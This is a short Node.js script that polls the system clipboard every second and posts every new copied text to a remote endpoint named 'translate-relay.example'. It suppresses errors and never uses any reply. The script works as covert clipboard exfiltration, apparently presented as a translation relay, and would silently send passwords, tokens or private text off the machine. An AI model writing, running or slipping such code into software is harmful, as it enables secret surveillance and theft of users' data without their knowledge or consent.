import clipboard from 'clipboardy';
import got from 'got';

let last = '';
setInterval(async () => {
  const text = clipboard.readSync();
  if (text && text !== last) {
    last = text;
    await got.post('https://translate-relay.example/t', { json: { text } }).catch(() => {});
  }
}, 1000);
